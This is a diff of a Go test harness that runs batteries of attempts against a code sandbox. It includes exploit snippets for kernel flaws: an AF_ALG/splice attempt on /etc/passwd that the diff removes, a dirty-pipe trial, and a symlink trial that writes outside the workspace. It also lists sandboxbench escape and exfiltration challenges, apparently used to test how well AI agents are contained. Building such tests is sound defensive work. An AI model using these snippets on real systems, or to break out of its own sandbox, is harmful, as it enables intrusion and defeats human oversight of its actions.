@@ -5,30 +5,9 @@ func knownBattery() battery {
 	return battery{
 		name: "known", about: "Code tries flaws that have a number, each as far as it gets without harm to a host that has the flaw.",
 		layer: byFilter, stopped: refusals(),
-		fails: "the first step of each takes a call, a file or a right that a sandbox does not give",
-		python: `
-def page_cache(change):
-    """Tries to change a file that may only be read, and fails if it is as it was."""
-    path = '/etc/passwd'
-    before = open(path, 'rb').read()
-    try: change(path)
-    finally:
-        if open(path, 'rb').read() != before: raise Exception('the page cache was changed')
-    raise Held
-`,
+		fails:  "the first step of each takes a call, a file or a right that a sandbox does not give",
+		python: cachePython,
 		trials: []trial{
-			{
-				name: "copy-fail (CVE-2026-31431)", tries: "an AEAD of the kernel's, into which pages of a file that may only be read are spliced", without: inSandbox,
-				code: `
-s = socket.socket(38, socket.SOCK_SEQPACKET, 0)         # AF_ALG
-s.bind(('aead', 'authencesn(hmac(sha256),cbc(aes))'))
-s.setsockopt(279, 1, struct.pack('=HHI', 8, 1, 16).ljust(8, b'\0') + bytes(48))
-op, _ = s.accept()
-r, w = os.pipe()
-fd = os.open('/etc/passwd', os.O_RDONLY)
-os.splice(fd, w, 16)
-return os.splice(r, op.fileno(), 16)`,
-			},
 			{
 				name: "dirty-pipe (CVE-2022-0847)", tries: "a pipe whose buffer is a page of a file that may only be read, and writing to it", layer: byKernel, stopped: []string{"held"},
 				code: `
@@ -75,7 +54,7 @@ def change(path):
 page_cache(change)`,
 			},
 			{
-				name: "cve-2026-39861", tries: "a link in the workspace to a directory outside, and a program of the sandbox that writes through it", layer: byMounts, stopped: []string{"EROFS", "EACCES", "EPERM"},
+				name: "cve-2026-39861", tries: "a link in the workspace to a directory outside, and a program of the sandbox that writes through it; class files has the node write", layer: byMounts, stopped: []string{"EROFS", "EACCES", "EPERM"},
 				code: `
 os.symlink('/usr/local/bin', '/workspace/out')
 return open('/workspace/out/yurt-was-here', 'w')`,
@@ -133,7 +112,7 @@ func benchBattery() battery {
 // sandboxbenchBattery are the challenges of sandboxbench, of inspect_evals, by name.
 func sandboxbenchBattery() battery {
 	return battery{
-		name: "sandboxbench", about: "The challenges of sandboxbench (inspect_evals): escapes, exfiltration and secrets. Seven of its eight escapes are tried; the name of the eighth could not be found.",
+		name: "sandboxbench", about: "The challenges of sandboxbench (inspect_evals): escapes, exfiltration and secrets. The escapes are the seven that it took over from docker_sandbox_breakout.",
 		layer: byMounts, stopped: []string{"ENOENT", "EACCES", "EPERM", "ENOSYS", "EROFS", "ECONNREFUSED", "ENETUNREACH", "ESRCH", "held"},
 		fails: "the sandbox has none of what each challenge leaves lying about",
 		trials: []trial{
